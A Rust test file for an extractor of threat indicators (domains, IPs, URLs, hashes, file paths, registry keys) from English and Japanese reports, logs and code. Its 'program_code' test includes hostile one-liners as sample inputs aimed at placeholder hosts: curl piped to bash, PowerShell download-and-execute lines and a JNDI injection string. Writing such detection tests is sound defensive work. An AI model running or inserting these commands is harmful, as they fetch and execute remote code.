//! Single odd lines as people, programs and logs write them, each with all that must be found in it and nothing else.
//! References are left aside; file names count.
#![expect(clippy::panic, reason = "a test's own check fails by panicking")]

mod announced;

/// Texts and what is found, `kind:value` separated by blanks, in the order of the text.
fn check(lines: &[(&str, &str)]) {
    let mut wrong = Vec::new();
    for (text, expected) in lines {
        let found: Vec<String> = indicator::find(text)
            .iter()
            .filter(|find| !find.is_reference())
            .map(|find| find.indicator.to_string())
            .collect();
        if found.join(" ") != *expected {
            wrong.push(format!("{text}\n   found    {}\n   expected {expected}", found.join(" ")));
        }
    }
    if !wrong.is_empty() {
        panic!("{} of {} lines\n{}", wrong.len(), lines.len(), wrong.join("\n"));
    }
}

#[test]
fn reports_in_english() {
    check(&[
        ("The loader beacons to cdn-update[.]example over 443/tcp every 60 s.", "domain:cdn-update.example"),
        ("C2: 198[.]51[.]100[.]23:8443, 203.0.113[.]5:443", "ipv4:198.51.100.23 ipv4:203.0.113.5"),
        (
            "hxxps[://]portal[.]login-check[.]example/auth?id=7",
            "url:https://portal.login-check.example/auth?id=7",
        ),
        ("hXXp://files[dot]evil[dot]example/a.zip", "url:http://files.evil.example/a.zip"),
        ("Contact: billing(at)evil(dot)example", "email:billing@evil.example"),
        ("billing [at] evil [dot] example", "email:billing@evil.example"),
        ("billing{at}evil{dot}example", "email:billing@evil.example"),
        ("evil[.]co[.]jp/path/to", "domain:evil.co.jp"),
        ("http://[2001:db8::1]:8080/x", "url:http://[2001:db8::1]:8080/x"),
        ("2001[:]db8[:]0[:]0[:]0[:]0[:]0[:]53", "ipv6:2001:db8::53"),
        ("resolved to 2001:db8:85a3::8a2e:370:7334.", "ipv6:2001:db8:85a3::8a2e:370:7334"),
        ("seen at 12:34:56 from 00:1A:2B:3C:4D:5E", ""),
        ("::ffff:198.51.100.9", "ipv4:198.51.100.9"),
        (
            "It drops x.dll (md5 9e107d9d372bb6826bd81d3542a419d6).",
            "file-name:x.dll md5:9e107d9d372bb6826bd81d3542a419d6",
        ),
        ("SHA1=3F786850E387550FDAAB836ED7E6DC881DE23001;", "sha1:3f786850e387550fdaab836ed7e6dc881de23001"),
        ("MD5:9e107d9d372bb6826bd81d3542a419d6|size:1024", "md5:9e107d9d372bb6826bd81d3542a419d6"),
        ("class id 3f2504e0-4f89-11d3-9a0c-0305e82c3301", ""),
        ("evil[.]example:443, evil2[.]example:8080/tcp", "domain:evil.example domain:evil2.example"),
        (
            "www[.]evil[.]example and its sub-domain *.evil[.]example",
            "domain:www.evil.example domain:evil.example",
        ),
        (
            "The actor registered evil.example, worse.example and evil-login.example.",
            "domain:evil.example domain:worse.example domain:evil-login.example",
        ),
        (
            "the range 192.0.2.10-192.0.2.20 and 198.51.100.0/24",
            "ipv4:192.0.2.10 ipv4:192.0.2.20 cidr4:198.51.100.0/24",
        ),
        ("192.0.2.x, 192.0.2.* and 300.1.2.3 are no addresses", ""),
        (
            "CVE\u{2011}2026\u{2011}12345 and CVE\u{2013}2026\u{2013}0007",
            "cve:CVE-2026-12345 cve:CVE-2026-0007",
        ),
        ("cve_2026_12345, CVE-2026-1", "cve:CVE-2026-12345"),
        ("MS17-010, KB5005565, JVN#12345678 and JVNDB-2026-001234", ""),
        ("T1059.001, TA0011 and S0154; model T100", "attack-id:T1059.001 attack-id:TA0011 attack-id:S0154"),
        ("hosted at AS64496 (Example Net)", "asn:AS64496"),
        (
            "send 0.1 BTC to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 now",
            "crypto-address:1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2",
        ),
        ("JA3: e7d705a3286e19ea42f587b344ee6865", "ja3:e7d705a3286e19ea42f587b344ee6865"),
    ]);
}

#[test]
fn reports_in_japanese() {
    check(&[
        ("通信先：１９８．５１．１００．７（ポート４４３）", "ipv4:198.51.100.7"),
        (
            "接続先ＵＲＬは「ｈｘｘｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／ｌｏｇｉｎ」である。",
            "url:https://evil.example/login",
        ),
        (
            "不審なドメイン（evil[.]example、bad[.]example）へのアクセス",
            "domain:evil.example domain:bad.example",
        ),
        ("メールアドレス：info＠evil[.]example", "email:info@evil.example"),
        ("info☆evil.example（☆を@に置き換えてください）", "email:info@evil.example"),
        ("info★evil.exampleまで", "email:info@evil.example"),
        ("info【at】evil【dot】exampleから届いた", "email:info@evil.example"),
        ("info[アット]evil[ドット]example", "email:info@evil.example"),
        ("送信元IP：203.0.113.7、198.51.100.8", "ipv4:203.0.113.7 ipv4:198.51.100.8"),
        (
            "ハッシュ値（SHA-256）：9c1185a5c5e9fc54612808977ee8f548b2258d31ddadef707ba62c166051b9e3を確認した",
            "sha256:9c1185a5c5e9fc54612808977ee8f548b2258d31ddadef707ba62c166051b9e3",
        ),
        ("マルウェアはhttp://evil.example/a.phpにアクセスし、", "url:http://evil.example/a.php"),
        ("evil.example／loginを開く", "domain:evil.example"),
        ("hxxps：//evil.example/a", "url:https://evil.example/a"),
        ("192。0。2。1と192・0・2・2", "ipv4:192.0.2.1 ipv4:192.0.2.2"),
        ("ドメイン名：evil.example。IPアドレス：192.0.2.1。", "domain:evil.example ipv4:192.0.2.1"),
        ("手順書の第3.2.1.4章を参照", ""),
        ("2026.11.23 午後3.30、〒100-0001、TEL 03-1234-5678", ""),
        ("Ｗｅｂサイトはｗｗｗ．ｅｖｉｌ．ｅｘａｍｐｌｅ", "domain:www.evil.example"),
        ("ＣＶＥ－２０２６－１２３４を悪用", "cve:CVE-2026-1234"),
        ("脆弱性（CVE-2026-12345）、技術（T1566.001）", "cve:CVE-2026-12345 attack-id:T1566.001"),
        ("製品バージョン6.14.103.24以前が影響を受ける", ""),
        ("Example VPN 6.14.103.24以前、7.0.1.83より前", ""),
        ("ファームウェア 6.14.103.24 を適用", ""),
        ("C:\\Users\\Public\\見積書.exe を実行する", "file-path:c:\\users\\public\\見積書.exe"),
        ("添付は「請求書.zip」、中身は invoice.js", "file-name:請求書.zip file-name:invoice.js"),
        ("件名「ご確認ください」、差出人「evil@bad.example」", "email:evil@bad.example"),
        ("偽サイト（https://login.evil.example/ja/）に誘導", "url:https://login.evil.example/ja/"),
        (
            "https://evil.example/a、https://evil.example/b。",
            "url:https://evil.example/a url:https://evil.example/b",
        ),
        ("国際化名は http://日本語.jp/ である", "url:http://xn--wgv71a119e.jp/"),
        ("アクセス先：evil[.]example（203.0.113[.]9）", "domain:evil.example ipv4:203.0.113.9"),
        ("evil\u{3000}example の間は全角の空白", ""),
        ("・evil.example\n・bad.example", "domain:evil.example domain:bad.example"),
        ("①192.0.2.1②192.0.2.2", "ipv4:192.0.2.1 ipv4:192.0.2.2"),
        ("10.5点、3.2倍、1.2.3版", ""),
    ]);
}

#[test]
fn versions_are_no_addresses() {
    check(&[
        ("upgrade to 6.14.103.24 or later", ""),
        ("Example Agent 6.14.103.24 and earlier are affected", ""),
        ("fixed in 9.1.0.2; patched in 9.1.0.3", ""),
        ("X-Mailer: Example Mail 6.14.103.24", ""),
        ("X-Mailer: Foxmail 7.2.25.331[cn]", ""),
        ("Server: Example/6.14.103.24", ""),
        ("versions 6.14.103.24, 6.14.103.25 and 6.14.104.1", ""),
        ("versions prior to 6.14.103.24", ""),
        ("v6.14.103.24", ""),
        ("OID 2.5.29.15 and 1.3.6.1.5.5.7.3.2", ""),
        ("with Microsoft SMTP Server (version=TLS1_2, cipher=X) id 15.20.239.5; Fri, 6 Nov", ""),
        ("see section 3.2.1.4 of the manual", ""),
        ("example-tool-6.14.103.24.zip", "file-name:example-tool-6.14.103.24.zip"),
        ("Windows 10.0.19045.1 with .NET 4.7.2", ""),
        ("through 6.14.103.24, inclusive, of the product", ""),
        ("connected to 198.51.100.7 and later to 198.51.100.8", "ipv4:198.51.100.7 ipv4:198.51.100.8"),
        ("the A record was updated to 203.0.113.7", "ipv4:203.0.113.7"),
        ("192.0.2.10 through 192.0.2.20, inclusive", "ipv4:192.0.2.10 ipv4:192.0.2.20"),
        ("FileVersion 6.14.103.24, ProductVersion=6.14.103.24", ""),
        ("the host 6.14.103.24 answered", "ipv4:6.14.103.24"),
        ("blocked 6.14.103.24 at the firewall", "ipv4:6.14.103.24"),
        ("the address changed to 198.51.100.7 on Monday", "ipv4:198.51.100.7"),
        ("connected to 198.51.100.7 and earlier to 198.51.100.8", "ipv4:198.51.100.7 ipv4:198.51.100.8"),
    ]);
}

#[test]
fn logs() {
    check(&[
        (
            "198.51.100.77 - - [23/Nov/2026:10:11:12 +0900] \"GET / HTTP/1.1\" 200 512 \"http://ref.evil.example/\" \"curl\"",
            "ipv4:198.51.100.77 url:http://ref.evil.example/",
        ),
        (
            "1700000000.123456\tCxyz\t10.1.2.3\t49152\t203.0.113.9\t443\ttcp\tssl",
            "ipv4:10.1.2.3 ipv4:203.0.113.9",
        ),
        ("Nov 23 10:11:12 mx1 postfix/smtpd[1234]: connect from unknown[203.0.113.44]", "ipv4:203.0.113.44"),
        (
            "from=<a@evil.example>, to=<b@victim.example>, relay=mx.victim.example[192.0.2.25]:25",
            "email:a@evil.example email:b@victim.example domain:mx.victim.example ipv4:192.0.2.25",
        ),
        ("query: x1.c2.evil.example IN A +E(0)K (192.0.2.53)", "domain:x1.c2.evil.example ipv4:192.0.2.53"),
        (
            r#"{"src_ip":"203.0.113.9","host":"evil.example","url":"http:\/\/evil.example\/a"}"#,
            "ipv4:203.0.113.9 domain:evil.example url:http://evil.example/a",
        ),
        ("evil.example,203.0.113.9,2026-11-23,high", "domain:evil.example ipv4:203.0.113.9"),
        (
            "src=203.0.113.9 dst=192.0.2.8 dhost=evil.example request=http://evil.example/x?a=b",
            "ipv4:203.0.113.9 ipv4:192.0.2.8 domain:evil.example url:http://evil.example/x?a=b",
        ),
        ("SRC=203.0.113.9 DST=192.0.2.8 PROTO=TCP SPT=443", "ipv4:203.0.113.9 ipv4:192.0.2.8"),
        ("client [2001:db8::5]:49152 -> [2001:db8::6]:443", "ipv6:2001:db8::5 ipv6:2001:db8::6"),
        ("CONNECT evil.example:443 HTTP/1.1", "domain:evil.example"),
        (
            "TCP_MISS/200 GET http://evil.example:8080/p.gif - HIER_DIRECT/203.0.113.9 image/gif",
            "url:http://evil.example:8080/p.gif ipv4:203.0.113.9",
        ),
        ("EventID=4624 IpAddress=203.0.113.9 IpPort=50123 TargetUserName=admin", "ipv4:203.0.113.9"),
        ("sshd[99]: Failed password for root from 203.0.113.9 port 22 ssh2", "ipv4:203.0.113.9"),
        ("root@198.51.100.7's password:", "ipv4:198.51.100.7"),
        ("tcpdump: IP 203.0.113.9.443 > 192.0.2.8.51000: Flags [S]", "ipv4:203.0.113.9 ipv4:192.0.2.8"),
        ("deny tcp 203.0.113.0/24 any eq 445", "cidr4:203.0.113.0/24"),
        ("dkim=pass header.d=evil.example header.i=@evil.example", "domain:evil.example domain:evil.example"),
    ]);
}

#[test]
fn program_code() {
    check(&[
        ("requests.get(\"http://198.51.100.7/p\")", "url:http://198.51.100.7/p"),
        ("System.out.println(x); os.path.join(a); e.target.value", ""),
        ("logger.info(\"x\"); self.name = user.id; obj.id", ""),
        ("window.location.href = \"hxxps://evil[.]example/\"", "url:https://evil.example/"),
        ("location.href=\"//evil.example/x\"", "domain:evil.example"),
        (
            "(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
            "url:http://evil.example/a.ps1",
        ),
        ("IEX(iwr hxxp://evil.example/a)", "url:http://evil.example/a"),
        ("socket.create_connection((\"203.0.113.9\", 4444))", "ipv4:203.0.113.9"),
        ("$s1 = \"evil.example\" ascii wide", "domain:evil.example"),
        ("${jndi:ldap://evil.example:1389/a}", "url:ldap://evil.example:1389/a"),
        ("<a href=\"https://evil.example/a?x=1\">Evil</a>", "url:https://evil.example/a?x=1"),
        ("<img src=https://evil.example/p.gif>", "url:https://evil.example/p.gif"),
        (
            "[click](https://evil.example/a), <https://evil.example/b>",
            "url:https://evil.example/a url:https://evil.example/b",
        ),
        ("(see https://evil.example/a_(b))", "url:https://evil.example/a_(b)"),
        ("navigator.id, Makefile.am and configure.in; {$_.Name -eq 1}", ""),
        ("const net = require('net'); module.exports = app.use", ""),
        ("import android.app.Activity; com.example.app.MainActivity", ""),
        ("npm install @evil/pkg@1.2.3 lodash@4.17.21", ""),
        ("a.menu { color: red } require CharEnt.pm", "file-name:charent.pm"),
        ("index 83db48f..bf2a2e1 100644", ""),
        ("color: #ff00ff; width: 1.5em; margin: 0.5.em", ""),
        ("url(https://evil.example/a.css)", "url:https://evil.example/a.css"),
        ("fetch(`https://evil.example/${id}`)", "url:https://evil.example/${id}"),
        ("curl -s http://evil.example/i.sh|bash", "url:http://evil.example/i.sh"),
        ("echo aHR0cA== | base64 -d > /tmp/a.sh", "file-path:/tmp/a.sh"),
        ("System.Net.Http.HttpClient, Microsoft.Win32.Registry", ""),
        ("std::net::TcpStream::connect(\"192.0.2.9:80\")", "ipv4:192.0.2.9"),
        (
            "0x52908400098527886E0F7030069857D2E4169EE7",
            "crypto-address:0x52908400098527886e0f7030069857d2e4169ee7",
        ),
    ]);
}

#[test]
fn mails_and_addresses() {
    check(&[
        ("\"Sales Team\" <sales@evil.example>", "email:sales@evil.example"),
        ("sales@evil.example;admin@evil.example", "email:sales@evil.example email:admin@evil.example"),
        ("mailto:info@evil.example?subject=x", "email:info@evil.example"),
        (
            "user+tag@evil.example and first.last@sub.evil.co.jp",
            "email:user+tag@evil.example email:first.last@sub.evil.co.jp",
        ),
        ("o'neil@evil.example wrote 'a@b.example'", "email:o'neil@evil.example email:a@b.example"),
        ("From: =?UTF-8?B?5bGx?= <x@evil.example>", "email:x@evil.example"),
        ("Received: from evil.example (unknown [203.0.113.7]) by mx", "domain:evil.example ipv4:203.0.113.7"),
        ("https://user:pw@evil.example/x", "url:https://evil.example/x"),
        ("follow @evil_user or evil@localhost", ""),
        ("bounce+a1=b.example@list.evil.example", "email:bounce+a1=b.example@list.evil.example"),
        (
            "https://evil.example/a. Then https://evil.example/b, or https://evil.example/c!",
            "url:https://evil.example/a url:https://evil.example/b url:https://evil.example/c",
        ),
    ]);
}

#[test]
fn prose_that_joins_its_sentences() {
    check(&[
        ("Please sign.in to your account.", ""),
        ("Your account.is limited.to protect you", ""),
        ("We noticed it.my team is on it.so wait", ""),
        ("The file was closed.It works, see end.The next.", ""),
        ("click here.to continue, and verify.me", ""),
        (
            "evil[.]example.The loader; evil[.]com.It then runs, Evil[.]Com.Br",
            "domain:evil.example domain:evil.com domain:evil.com.br",
        ),
        ("e.g. a.m., U.S., Ph.D., vs.the, etc.and, no.1, Fig.3", ""),
        ("Node.js, ASP.NET, VB.NET, Socket.IO and Next.js", ""),
        ("Web2.0, v1.2.3-beta.4, 1.2.3.4.5, 9.8/10, $1.2M", ""),
        ("visit evil.to today, or t.me and bit.ly", "domain:evil.to domain:t.me domain:bit.ly"),
        ("confirm within 24 hours.do not ignore.at once", ""),
    ]);
}

#[test]
fn files_and_keys() {
    check(&[
        (
            "%TEMP%\\a.exe and C:/Users/Public/b.exe",
            "file-path:%temp%\\a.exe file-path:c:\\users\\public\\b.exe",
        ),
        ("HKCU\\Software\\Evil\\Run = x", "registry-key:HKEY_CURRENT_USER\\software\\evil\\run"),
        ("\\\\198.51.100.7\\share\\a.exe", "file-path:\\\\198.51.100.7\\share\\a.exe"),
        (
            "C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\a.dll,Start",
            "file-path:c:\\windows\\system32\\rundll32.exe file-path:c:\\users\\public\\a.dll",
        ),
        ("ミューテックス名「Global\\Evil」を作る", "mutex:Global\\Evil"),
        ("dropped to /var/www/html/shell.php.", "file-path:/var/www/html/shell.php"),
        (
            "invoice.pdf.exe, README.md, archive.zip, build.sh",
            "file-name:invoice.pdf.exe file-name:readme.md file-name:archive.zip file-name:build.sh",
        ),
        (
            "ファイル名「請求書_20260401.xlsm」と見積書_2.docx",
            "file-name:請求書_20260401.xlsm file-name:見積書_2.docx",
        ),
        (
            "検体は%APPDATA%\\Evil\\svc32.exeに自身を写す。 HKCU\\Software\\Evil\\Run\\Updaterに登録する。",
            "file-path:%appdata%\\evil\\svc32.exe registry-key:HKEY_CURRENT_USER\\software\\evil\\run\\updater",
        ),
        (
            "C:\\PCの設定\\VPNの控え.txtとD:\\a\\b.exeを消す",
            "file-path:c:\\pcの設定\\vpnの控え.txt file-path:d:\\a\\b.exe",
        ),
        ("C:\\作業用\\見積りの控え.pdf.exe（既定）を実行", "file-path:c:\\作業用\\見積りの控え.pdf.exe"),
        ("foo.bar() and evil.exe (dropper)", "file-name:evil.exe"),
    ]);
}

#[test]
fn marks_with_blanks_and_escapes() {
    check(&[
        (
            "evil [ . ] example , bad[ dot ]example and worse( . )example",
            "domain:evil.example domain:bad.example domain:worse.example",
        ),
        ("bad<dot>example or user<at>bad<dot>example", "domain:bad.example email:user@bad.example"),
        (
            "Markdown: evil\\[.\\]example, hxxps\\[:\\]//bad\\[.\\]example/a",
            "domain:evil.example url:https://bad.example/a",
        ),
        ("array[ i ] and f( x ) and [ ] ( . )", ""),
    ]);
}

#[test]
fn behind_japanese_without_a_blank() {
    check(&[
        (
            "検体はレジストリHKCU\\Software\\Evil\\Runに自身を登録する",
            "registry-key:HKEY_CURRENT_USER\\software\\evil\\run",
        ),
        ("キー：HKLM\\SOFTWARE\\Evil、値は1", "registry-key:HKEY_LOCAL_MACHINE\\software\\evil"),
        ("Key=HKLM\\SOFTWARE\\Evil", "registry-key:HKEY_LOCAL_MACHINE\\software\\evil"),
        ("PS> cd hkcu:\\Software\\Evil", "registry-key:HKEY_CURRENT_USER\\software\\evil"),
        (
            "evil.exampleへ通信しHKEY_LOCAL_MACHINE\\Software\\Evilを作る",
            "domain:evil.example registry-key:HKEY_LOCAL_MACHINE\\software\\evil",
        ),
        (
            "evil.exampleからC:\\Users\\Public\\a.exeを得る",
            "domain:evil.example file-path:c:\\users\\public\\a.exe",
        ),
        ("検体は/tmp/.x/a.shに置かれ、~/.bashrcを変える", "file-path:/tmp/.x/a.sh file-path:~/.bashrc"),
        ("共有フォルダー\\\\198.51.100.7\\share\\a.exeを開く", "file-path:\\\\198.51.100.7\\share\\a.exe"),
        (
            "evil.example（悪性）とbad.example(悪性)、worse.example（C2）",
            "domain:evil.example domain:bad.example domain:worse.example",
        ),
        (
            "https://evil.example/dl/請求書_4月.pdfを開く",
            "url:https://evil.example/dl/%E8%AB%8B%E6%B1%82%E6%9B%B8_4%E6%9C%88.pdf",
        ),
        ("https://evil.example/にある請求書.pdf", "url:https://evil.example/ file-name:請求書.pdf"),
        ("2001[:]db8[::]1", "ipv6:2001:db8::1"),
        ("MYHKCU\\Software と XHKLM\\a", ""),
    ]);
}

#[test]
fn files_in_japanese_sentences() {
    check(&[
        ("添付ファイルの名は見積書_4月-2.docxである", "file-name:見積書_4月-2.docx"),
        ("見積書_4月-2.docx", "file-name:見積書_4月-2.docx"),
        (
            "本日届いた見積書_4月-2.docx、請求書4月.xlsx",
            "file-name:見積書_4月-2.docx file-name:請求書4月.xlsx",
        ),
        ("添付の請求書.docxを開くと", "file-name:請求書.docx"),
        ("メールに添付された請求書.zipに", "file-name:請求書.zip"),
        ("添付は請求書.pdf.exeです", "file-name:請求書.pdf.exe"),
        ("evil.exampleから請求書4.pdfを", "domain:evil.example file-name:請求書4.pdf"),
        ("お見積り.docxとご案内.pdf", "file-name:お見積り.docx file-name:ご案内.pdf"),
    ]);
}

#[test]
fn dots_in_words() {
    check(&[
        ("evil dot com", "domain:evil.com"),
        (
            "C2 is update-check dot net, then mail dot evil dot co dot jp.",
            "domain:update-check.net domain:mail.evil.co.jp",
        ),
        (
            "evil (dot) com, evil[dot]com, evil{dot}com, evil [dot] com",
            "domain:evil.com domain:evil.com domain:evil.com domain:evil.com",
        ),
        ("evil(dot)com evil DOT com", "domain:evil.com domain:evil.com"),
        ("reach us at evil dot example today", "domain:evil.example"),
        ("written for the Microsoft dot NET framework and dot net core", ""),
        ("the dot com bubble, early dot com startups and a former dot com company", ""),
        ("move the dot in the middle; a polka dot dress; connect each dot to it", ""),
    ]);
}

#[test]
fn programs_before_their_version() {
    check(&[
        ("the Osaka office 100.64.3.7 and the edge 100.64.3.8", "ipv4:100.64.3.7 ipv4:100.64.3.8"),
        ("Python 3.11.4.1 was bundled, version 10.0.19045.1", ""),
        ("Chrome 109.0.0.0 on Windows 10.0.14.3", ""),
        ("Java 8.0.202.8, OpenSSL 1.0.2.1 and Firefox 91.0.2.1", ""),
        ("from Chrome 198.51.100.7 was opened; Windows 10.1.2.3", "ipv4:198.51.100.7 ipv4:10.1.2.3"),
        ("nginx 5.6.7.8 answered", "ipv4:5.6.7.8"),
    ]);
}

#[test]
fn links_from_the_source_of_a_page() {
    check(&[
        ("http://evil.example/a?x=1&amp;y=2&amp;amp;z=3", "url:http://evil.example/a?x=1&y=2&z=3"),
        ("http://evil.example/a?x=1&y=amp;2", "url:http://evil.example/a?x=1&y=amp;2"),
    ]);
}

#[test]
fn labels_before_addresses_of_version_6() {
    check(&[
        ("[IPv6:2001:db8::1] and IP:2001:db8:0:0:0:0:0:2", "ipv6:2001:db8::1 ipv6:2001:db8::2"),
        ("src:2001:db8::1 dst:2001:db8::2", "ipv6:2001:db8::1 ipv6:2001:db8::2"),
        ("C2:2001:db8::1 10:3fff:a::1", "ipv6:2001:db8::1 ipv6:3fff:a::1"),
        ("IPv6アドレス：2001:db8::1", "ipv6:2001:db8::1"),
        ("通信先2001:db8::1を", "ipv6:2001:db8::1"),
        ("evil.exampleから2001:db8::1へ", "domain:evil.example ipv6:2001:db8::1"),
        ("時刻：12:34:56、10:20から11:30", ""),
        ("std::vec::new a:b::c user:x:33:33:: MD5:16:27:ac:a5::", ""),
        ("00:11:22:33:44:55:66:77 and fe:80:00:00:00:00:00:01", ""),
        ("2001:db8:1:2:3:4:5:6", "ipv6:2001:db8:1:2:3:4:5:6"),
    ]);
}

#[test]
fn calls_and_schemes_with_brackets() {
    check(&[
        ("driver.page().click() and x.get().name", ""),
        ("foo().zip(bar), self.run().info", ""),
        ("evil[].example and http()://evil.example/a", "domain:evil.example url:http://evil.example/a"),
        ("http[s]://evil[.]example/a", "url:https://evil.example/a"),
        ("hxxp[s][:]//evil.example/b", "url:https://evil.example/b"),
        ("item[s] and http[s] are words", ""),
    ]);
}

#[test]
fn lists_with_signs_of_japanese() {
    check(&[
        (
            "evil.example／bad.example／worse.example",
            "domain:evil.example domain:bad.example domain:worse.example",
        ),
        ("メール／evil.example＆bad.example", "domain:evil.example domain:bad.example"),
        (
            "evil.example／loginを開く、setup.py／main.rs",
            "domain:evil.example file-name:setup.py file-name:main.rs",
        ),
        ("user●evil.example（●を@に変えてください）", "email:user@evil.example"),
        ("「info■evil.example」※「■」は＠", "email:info@evil.example"),
        (
            "info#evil.example（#を@に変えてください）、info＃bad.example（＃は@）",
            "email:info@evil.example email:info@bad.example",
        ),
        ("http://evil.example/#bad.example は別の場所", "url:http://evil.example/"),
        (
            "info(アットマーク)evil.example、info[atmark]bad.example",
            "email:info@evil.example email:info@bad.example",
        ),
        (
            "http://evil.example/a！http://bad.example/b？Click",
            "url:http://evil.example/a url:http://bad.example/b",
        ),
        ("ｈｔｔｐ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／ａ？ｂ＝１", "url:http://evil.example/a?b=1"),
        (
            "evil.example●bad.example■worse.example",
            "domain:evil.example domain:bad.example domain:worse.example",
        ),
    ]);
}
